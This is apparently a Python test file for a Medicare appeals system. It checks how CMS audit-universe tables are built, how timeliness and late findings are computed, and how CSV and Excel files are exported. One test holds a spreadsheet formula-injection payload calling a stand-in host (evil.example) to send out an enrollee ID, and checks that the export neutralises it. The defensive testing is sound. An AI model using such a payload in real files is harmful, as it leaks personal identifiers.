"""Audit universes (CMS program-audit layout, spec §10.1) from hand-built cases: rows, formats, inclusion by date of
determination, withdrawn left out, the AIP table, and the self-check (late cases, by how much, why)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from partcd.appeals.pipelines.cases import CaseView
from partcd.appeals.pipelines.universes import COLUMNS, NONE, TABLES, build, write
from partcd.appeals.rules import workflow as wf
from partcd.appeals.rules.workflow import CaseEvent, Intake, apply, open_case
from partcd.platform.params import load_params

P = load_params("appeals", dt.date(2021, 1, 1))
NY = ZoneInfo("America/New_York")
REC = dt.datetime(2021, 3, 1, 9, 0, tzinfo=NY)
NOW = dt.datetime(2021, 6, 1, 12, tzinfo=NY)
BASE: dict[str, Any] = {"reason": "home health", "enrollee_name": "Mary Ann Example", "mbi": "1EG4TE5MK73",
                        "contract_id": "H1234", "plan_benefit_package": "002"}


def _case(case_type: str, received: dt.datetime = REC, **kw: Any) -> wf.Case:
    return open_case(Intake(case_type=case_type, received=received, **{**BASE, **kw}), P, actor="intake", now=received)


def _ev(case: wf.Case, kind: str, at: dt.datetime, **kw: Any) -> wf.Case:
    return apply(case, CaseEvent(kind=kind, at=at, actor="rev", **kw), P, now=at)


def _view(case_id: int, case: wf.Case) -> CaseView:
    current = wf.advance(case, P, NOW)
    return CaseView(id=case_id, version=1, case=current, deadlines=wf.deadlines(current, P, NOW),
                    next_due=wf.next_due(current, P, NOW), allowed=wf.allowed_events(current))


def _views() -> list[CaseView]:
    on_time = _ev(_case("integrated_organization_determination"), "decide", dt.datetime(2021, 3, 5, 10, tzinfo=NY),
                  decision="favorable", oral_notice=dt.datetime(2021, 3, 5, 9, 30, tzinfo=NY))
    late = _case("integrated_organization_determination", requester="representative", expedite_requested=True,
                 provider_indicates_jeopardy=True, aor_received=dt.date(2021, 2, 26))
    late = _ev(late, "decide", REC + dt.timedelta(hours=80), decision="adverse")
    undecided = _case("integrated_organization_determination", received=dt.datetime(2021, 4, 1, 9, tzinfo=NY))
    reduction = _ev(_case("integrated_organization_determination", received=dt.datetime(2021, 3, 2, 9, tzinfo=NY)),
                    "decide", dt.datetime(2021, 3, 3, 16, tzinfo=NY), decision="adverse", reduction=True,
                    effective_date=dt.date(2021, 3, 20))
    ir = _case("integrated_reconsideration", received=dt.datetime(2021, 3, 8, 11, tzinfo=NY), parent_ref="4",
               adverse_notice_date=dt.date(2021, 3, 3), adverse_notice_sent=dt.datetime(2021, 3, 3, 16, tzinfo=NY),
               intended_effective_date=dt.date(2021, 3, 20))
    ir = _ev(ir, "request_continuation", dt.datetime(2021, 3, 8, 12, tzinfo=NY), previously_authorized=True,
             ordered_by_authorized_provider=True, authorization_period_unexpired=True)
    ir = _ev(ir, "decide", dt.datetime(2021, 3, 30, 10, tzinfo=NY), decision="adverse")
    ir = _ev(ir, "forward_to_ire", dt.datetime(2021, 4, 9, 10, tzinfo=NY))  # T23 due 2021-04-07: late
    grievance = _ev(_case("integrated_grievance", grievance_subject="quality_of_care", channel="oral"), "resolve",
                    dt.datetime(2021, 3, 20, 15, tzinfo=NY), response_mode="written")
    withdrawn = _ev(_case("integrated_reconsideration", received=dt.datetime(2021, 3, 9, 9, tzinfo=NY),
                          adverse_notice_date=dt.date(2021, 3, 3)), "withdraw", dt.datetime(2021, 3, 10, tzinfo=NY))
    cd = _ev(_case("partd_coverage_determination"), "decide", REC + dt.timedelta(hours=30), decision="adverse")
    cder = _ev(_case("partd_exception"), "supporting_statement", dt.datetime(2021, 3, 12, 10, tzinfo=NY))
    cder = _ev(cder, "decide", dt.datetime(2021, 3, 15, 9, tzinfo=NY), decision="favorable")
    return [_view(i, c) for i, c in enumerate([on_time, late, undecided, reduction, ir, grievance, withdrawn, cd, cder],
                                              start=1)]


VIEWS = _views()


def test_od_rows_in_the_cms_format() -> None:
    uni = build(VIEWS)
    rows = {r["Authorization or Claim Number"]: r for r in uni.tables["OD"]}
    assert sorted(rows) == ["1", "2", "4"]  # case 3 is undecided: not in the universe
    ok = rows["1"]
    assert list(ok) == COLUMNS["OD"]
    assert (ok["Enrollee First Name"], ok["Enrollee Last Name"], ok["Enrollee ID"]) == ("Mary Ann", "Example",
                                                                                       "1EG4TE5MK73")
    assert (ok["Contract ID"], ok["Plan Benefit Package (PBP)"]) == ("H1234", "002")
    assert (ok["Request Received Date"], ok["Request Received Time"]) == ("2021/03/01", "09:00:00")
    assert (ok["Request Disposition"], ok["Priority (S/E)"], ok["Who Made the Request"]) == ("Approved", "S", "E")
    assert (ok["Date of Determination"], ok["Time of Determination"]) == ("2021/03/05", "10:00:00")
    assert (ok["Date Oral Notification Provided to Enrollee"], ok["Time Oral Notification Provided to Enrollee"]) == (
        "2021/03/05", "09:30:00")
    assert (ok["AOR Receipt Date"], ok["Timeframe Extension Taken (Y/N)"]) == (NONE, "N")
    assert (ok["Extension Notification Sent (Y/N/None)"], ok["Date Effectuated"]) == (NONE, NONE)
    assert (ok["Obligation ID"], ok["Due Date"], ok["Due Time"]) == ("T5", "2021/03/15", "23:59:59")
    assert (ok["Timely (Y/N)"], ok["Turnaround Time (hours)"], ok["Late By (hours)"]) == ("Y", "97.00", NONE)
    late = rows["2"]
    assert (late["Priority (S/E)"], late["Who Made the Request"], late["AOR Receipt Date"]) == ("E", "ER", "2021/02/26")
    assert (late["Obligation ID"], late["Timely (Y/N)"], late["Late By (hours)"]) == ("T7", "N", "8.00")
    assert late["Untimely Determination (deemed adverse) (Y/N)"] == "Y" and late["Request Disposition"] == "Denied"


def test_recon_grievance_and_part_d_rows() -> None:
    uni = build(VIEWS)
    assert [r["Reconsideration Number"] for r in uni.tables["RECON"]] == ["5"]  # case 7 was withdrawn
    recon = uni.tables["RECON"][0]
    assert (recon["Request Disposition"], recon["Date Forwarded to IRE"], recon["IRE Forwarding Due"]) == (
        "Denied", "2021/04/09", "2021/04/07 23:59:59")
    assert (recon["IRE Forwarding Timely (Y/N/None)"], recon["Timely (Y/N)"], recon["Obligation ID"]) == ("N", "Y", "T16")
    assert (recon["Medicare Item (Y/N)"], recon["Medicaid Item (Y/N)"]) == ("Y", "Y")
    grv = uni.tables["GRV_C"][0]
    assert (grv["How Was the Grievance Received (Oral/Written)"], grv["Category of the Grievance"]) == ("Oral",
                                                                                                      "Quality Of Care")
    assert (grv["Date Written Notification of Resolution"], grv["Date Oral Notification of Resolution"]) == (
        "2021/03/20", NONE)
    assert (grv["Obligation ID"], grv["Due Date"], grv["Timely (Y/N)"]) == ("T2", "2021/03/31", "Y")
    cd = uni.tables["CD"][0]
    assert (cd["Obligation ID"], cd["Timely (Y/N)"], cd["Turnaround Time (hours)"]) == ("P1", "Y", "30.00")
    cder = uni.tables["CDER"][0]
    assert (cder["Date Prescriber Supporting Statement Received"], cder["Time Prescriber Supporting Statement Received"]
            ) == ("2021/03/12", "10:00:00")
    assert (cder["Obligation ID"], cder["Due Date"], cder["Due Time"], cder["Timely (Y/N)"]) == (
        "P2", "2021/03/15", "11:00:00", "Y")  # 72 elapsed h after the statement (across the DST change), before day 14


def test_aip_table_reductions_with_continuation() -> None:
    aip = build(VIEWS).tables["AIP"]
    assert len(aip) == 1
    row = aip[0]
    assert (row["Authorization Number"], row["Date on the Adverse Notice"], row["Date Adverse Notice Sent"]) == (
        "4", "2021/03/03", "2021/03/03")
    assert (row["Date of Action"], row["Days of Advance Notice"], row["Advance Notice Timely (Y/N)"]) == (
        "2021/03/20", "17", "Y")
    assert (row["Continuation Requested (Y/N)"], row["Continuation Start Date"]) == ("Y", "2021/03/08")
    assert row["Continuation End Date"] == "2021/03/30" and "Medicare continuation ends" in row["Continuation End Reason"]


def test_self_check_lists_late_cases_by_how_much_and_why() -> None:
    uni = build(VIEWS)
    found = {(f.case_id, f.obligation_id): f for f in uni.findings}
    t7 = found[(2, "T7")]
    assert t7.late_by == dt.timedelta(hours=8) and t7.to_dict()["late_by"] == "8 h 00 min"
    assert "done 8 h 00 min after the due time" in t7.why and "deemed adverse" in t7.why
    t23 = found[(5, "T23")]
    assert t23.late_by == dt.timedelta(days=1, hours=10, seconds=1) and "42 CFR 422.634(b)(1)(ii)" in t23.cite
    t13 = found[(3, "T13")]
    assert t13.met_at is None and "adverse determination" in t13.why
    assert t13.due == dt.datetime(2021, 4, 15, 23, 59, 59, tzinfo=NY)
    summary = uni.summary()
    assert summary["OD"] == {"rows": 3, "timely": 2, "untimely": 1, "timely_pct": 66.7,
                             "findings": sum(1 for f in uni.findings if f.table == "OD")}


def test_period_is_by_date_of_determination() -> None:
    march = build(VIEWS, date_from=dt.date(2021, 3, 5), date_to=dt.date(2021, 3, 5))
    assert [r["Authorization or Claim Number"] for r in march.tables["OD"]] == ["1"]
    assert march.tables["RECON"] == [] and march.tables["CD"] == []
    assert all(f.due.astimezone(NY).date() == dt.date(2021, 3, 5) or (f.met_at and f.met_at.astimezone(NY).date()
                                                                      == dt.date(2021, 3, 5)) for f in march.findings)


def test_csv_and_excel_files(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    uni = build(VIEWS)
    paths = write(uni, tmp_path / "universe.csv")
    assert [p.name for p in paths] == [f"universe_{t}.csv" for t in TABLES] + ["universe_self_check.csv"]
    with (tmp_path / "universe_OD.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == COLUMNS["OD"] and len(rows) == 3
    one = write(uni, tmp_path / "cd.csv", tables=["CD"])
    assert one == [tmp_path / "cd.csv"]
    (xlsx,) = write(uni, tmp_path / "universe.xlsx")
    wb = load_workbook(xlsx)
    assert wb.sheetnames == [*TABLES, "Self-check"]
    assert [c.value for c in wb["OD"][1]] == COLUMNS["OD"] and wb["OD"].max_row == 4
    assert wb["Self-check"].max_row == 1 + len(uni.findings)


FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"x")'


def test_a_formula_in_an_enrollee_name_is_exported_as_text(tmp_path: Path) -> None:
    """Formula injection (issue 9): the name would send the neighbouring Enrollee ID away when the file is opened."""
    from openpyxl import load_workbook

    hostile = _ev(_case("integrated_organization_determination", enrollee_name=FORMULA), "decide",
                  dt.datetime(2021, 3, 5, 10, tzinfo=NY), decision="favorable")
    uni = build([_view(1, hostile)])
    (path,) = write(uni, tmp_path / "od.csv", tables=["OD"])
    with path.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    # one word, so the name is both first and last name; a leading quote makes the spreadsheet show it as text
    assert row["Enrollee First Name"] == row["Enrollee Last Name"] == "'" + FORMULA
    assert row["Enrollee ID"] == "1EG4TE5MK73"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
    (xlsx,) = write(uni, tmp_path / "od.xlsx", tables=["OD"])
    sheet = load_workbook(xlsx)["OD"]
    first = sheet.cell(row=2, column=COLUMNS["OD"].index("Enrollee First Name") + 1)
    assert first.data_type == "s" and first.value == "'" + FORMULA  # a string cell, not a formula
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert load_workbook(xlsx, data_only=False)["OD"].cell(row=2, column=3).value == row[COLUMNS["OD"][2]]
